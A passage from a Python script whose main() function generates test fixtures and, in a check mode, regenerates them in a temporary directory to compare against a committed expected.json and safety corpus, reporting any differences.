    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", type=Path, default=DEFAULT_OUT)
    ap.add_argument("--check", action="store_true")
    ap.add_argument("--only", choices=["safety-extra", "safety-load"])
    args = ap.parse_args()

    if args.only == "safety-extra":
        return regenerate_safety_extra(args.out.resolve() / "safety")
    if args.only == "safety-load":
        make_safety_load_only(args.out.resolve())
        print(f"wrote {args.out / 'safety'} (safety-load only)")
        return 0

    if args.check:
        committed = json.loads((DEFAULT_OUT / "expected.json").read_text())
        with tempfile.TemporaryDirectory() as td:
            fresh = generate(Path(td) / "fixtures")
            bad_safety = check_safety_corpus(DEFAULT_OUT / "safety", Path(td) / "fixtures" / "safety")
        a = {m["path"]: m for m in committed["models"]}
        b = {m["path"]: m for m in fresh["models"]}
        bad = sorted(set(a) ^ set(b)) + sorted(k for k in set(a) & set(b) if a[k] != b[k])
        for k in ("directory_models", "decoys", "hazards"):
            if committed[k] != fresh[k]:
                bad.append(k)
        bad += bad_safety
        for k in bad:
            print(f"differs: {k}", file=sys.stderr)
        print("check: " + ("OK, regenerated fixtures match expected.json" if not bad else f"{len(bad)} differences"))
        return 1 if bad else 0

    generate(args.out.resolve())
    total = sum(f.stat().st_size for f in args.out.rglob("*") if f.is_file() and not f.is_symlink())
    print(f"wrote {args.out} ({total / 1024:.0f} KiB)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
